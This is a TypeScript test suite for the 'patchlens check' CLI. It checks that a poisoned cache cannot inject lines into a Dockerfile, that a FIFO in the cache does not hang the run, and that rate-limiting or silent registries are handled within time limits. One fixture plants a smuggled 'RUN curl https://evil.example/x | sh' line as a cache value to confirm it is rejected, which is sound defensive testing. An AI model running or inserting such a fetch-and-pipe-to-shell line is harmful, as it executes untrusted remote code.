// `patchlens check` against a hostile registry and a poisoned cache, as a user runs it: nothing a
// cache says is written into a Dockerfile unchecked, a FIFO in the cache does not hang the run, a
// rate-limiting or silent registry costs one time limit per run and one message, and the run's
// deadline holds. A throw-away DOCKER_CONFIG: never the user's ~/.docker.
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { after, afterEach, before, describe, it } from 'node:test';
import { CACHE_SCHEMA, DiskCache } from '../../server/src/registry/cache';
import { MEDIA_TYPES } from '../../server/src/registry/manifest';
import { FixtureRegistry, imageManifest } from './fixtureServer';

const CLI = path.join(__dirname, '../../cli/out/patchlens.js');
const PINNED = `sha256:${'a'.repeat(64)}`;

/** Runs the CLI without blocking this process: the fixture registry answers from its event loop. */
function run(args: string[], mirror: string, timeoutMs = 40_000): Promise<{ code: number | null; stdout: string; stderr: string; killed: boolean }> {
	const child = spawn(process.execPath, [CLI, ...args], {
		timeout: timeoutMs,
		env: { ...process.env, NO_COLOR: '1', PATCHLENS_REGISTRY_MIRROR: `docker.io=${mirror}`, DOCKER_CONFIG: mkdtempSync(path.join(tmpdir(), 'patchlens-docker-')) },
	});
	let stdout = '';
	let stderr = '';
	child.stdout.on('data', d => (stdout += d));
	child.stderr.on('data', d => (stderr += d));
	return new Promise(resolve => child.on('close', (code, signal) => resolve({ code, stdout, stderr, killed: signal !== null })));
}

function workspace(text: string): { dir: string; file: string; cache: string } {
	const dir = mkdtempSync(path.join(tmpdir(), 'patchlens-hostile-cli-'));
	writeFileSync(path.join(dir, 'Dockerfile'), text);
	return { dir, file: path.join(dir, 'Dockerfile'), cache: path.join(dir, 'cache') };
}

describe('patchlens check against a poisoned cache', () => {
	const registry = new FixtureRegistry();
	let digest = '';
	before(async () => {
		await registry.start();
		digest = registry.putManifest('library/python', imageManifest('py', [10, 20]), MEDIA_TYPES.dockerManifest, '3.12.1-slim');
	});
	after(() => registry.stop());

	it('--fix never writes a cached digest holding a line break, and a FIFO in the cache does not hang', async () => {
		const { file, cache } = workspace(`FROM python:3.12.1-slim@${PINNED}\nRUN echo hi\n`);
		const disk = new DiskCache({ dir: path.join(cache, 'registry'), ttlMs: 3_600_000 });
		mkdirSync(disk.dir, { recursive: true });
		const digestKey = `digest|${registry.url}|library/python|3.12.1-slim`;
		writeFileSync(disk.fileFor(digestKey), JSON.stringify({ schema: CACHE_SCHEMA, key: digestKey, storedAt: Date.now(), value: 'sha256:0000\nRUN curl https://evil.example/x | sh\n#' }));
		assert.equal(spawnSync('mkfifo', [disk.fileFor(`tags|${registry.url}|library/python`)]).status, 0);
		const r = await run(['check', '--fix', '--format', 'json', '--cache-dir', cache, file], registry.url);
		assert.equal(r.killed, false, 'the run finished');
		const after = readFileSync(file, 'utf8');
		assert.ok(!after.includes('evil.example'), after);
		assert.match(r.stderr, /^patchlens: ignoring cache entry .* looking it up again$/m);
		assert.equal(r.stderr.match(/ignoring cache entry/g)?.length, 1, r.stderr);
		// Whichever fix --fix applies (its policy is not this test's), the FROM stays one instruction.
		assert.deepEqual(after.split('\n').slice(1), ['RUN echo hi', ''], after);
		assert.ok(!r.stdout.includes('evil.example'));
		const pin = after.match(/@(\S+)/)?.[1];
		assert.ok(pin === undefined || pin === PINNED || pin === digest, `pinned to ${pin}: the live digest or the user's`);
	});
});

describe('patchlens check against a registry that rate-limits or stays silent', () => {
	const registry = new FixtureRegistry();
	before(() => registry.start());
	after(() => registry.stop());
	afterEach(() => registry.reset());
	const fourFroms = ['python:3.12.1-slim', 'node:20.11.0-alpine3.19', 'debian:bookworm-slim', 'alpine:3.20'].map(i => `FROM ${i}`).join('\n') + '\n';

	it('429 with Retry-After 10 and --registry-timeout 500 over 4 FROMs: asked at most once per slot, one message', async () => {
		registry.script(/^\/v2\//, ...Array.from({ length: 60 }, () => ({ status: 429, headers: { 'retry-after': '10' } })));
		const { file, cache } = workspace(fourFroms);
		const r = await run(['check', '--format', 'json', '--registry-timeout', '500', '--cache-dir', cache, file], registry.url);
		assert.equal(r.killed, false);
		const lines = r.stderr.trim().split('\n');
		assert.equal(lines.length, 1, r.stderr);
		assert.match(lines[0], /^patchlens: registry docker\.io lookups failed \(.*rate limited \(429\).*\); using bundled data only\.$/);
		assert.ok(registry.distinctApiRequests() <= 4, `${registry.distinctApiRequests()} distinct requests`);
		assert.ok(Array.isArray(JSON.parse(r.stdout)));
	});

	it('--registry-deadline ends the lookups of a run against a registry that never answers', async () => {
		registry.script(/^\/v2\//, ...Array.from({ length: 60 }, () => ({ status: 200, hang: true })));
		const { file, cache } = workspace(fourFroms);
		const r = await run(['check', '--format', 'json', '--registry-timeout', '20000', '--registry-deadline', '400', '--cache-dir', cache, file], registry.url);
		assert.equal(r.killed, false);
		// The root cause, not "not asked, the registry failed moments ago (…)" wrapped around it.
		assert.match(r.stderr.trim(), /^patchlens: registry docker\.io lookups failed \([^()]*: the run's registry deadline of 400 ms passed\); using bundled data only\.$/);
	});
});
